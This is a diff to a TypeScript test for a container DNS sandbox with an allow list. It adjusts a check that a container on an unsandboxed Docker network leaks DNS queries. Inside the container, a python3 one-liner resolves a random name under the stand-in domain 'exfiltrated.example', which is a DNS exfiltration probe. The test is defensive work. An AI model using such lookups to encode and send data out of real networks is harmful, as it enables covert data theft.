@@ -67,19 +67,21 @@ describe("names in a sandbox with an allow list", function () {
   const secretName = () => `${randomBytes(8).toString("hex")}.exfiltrated.example`;
   const askedFor = (name: string) => names.questions.filter((question) => question.includes(name));
 
-  it("3: would leave an internal network of this engine otherwise", async () => {
-    await host.client.createNetwork({ Name: "plain-internal", Internal: true, Labels: site.labels });
+  it("3: would leave a network of this engine otherwise", async () => {
+    // From Docker 26 on an engine asks nobody itself for who is on internal networks alone.
+    const Internal = Number.parseInt((await host.client.version()).Version, 10) < 26;
+    await host.client.createNetwork({ Name: "plain", Internal, Labels: site.labels });
     const container = await host.client.createContainer({
       Image: clientsImage,
       Entrypoint: ["sleep", "60"],
       Labels: site.labels,
-      HostConfig: { NetworkMode: "plain-internal" },
+      HostConfig: { NetworkMode: "plain" },
     });
     await container.start();
     const name = secretName();
     await inside(host.client, container.id, `python3 -c 'import socket; socket.getaddrinfo("${name}", 443)'`);
     await container.remove({ force: true });
-    await host.client.getNetwork("plain-internal").remove();
+    await host.client.getNetwork("plain").remove();
     assert.notEqual(askedFor(name).length, 0);
   });
 
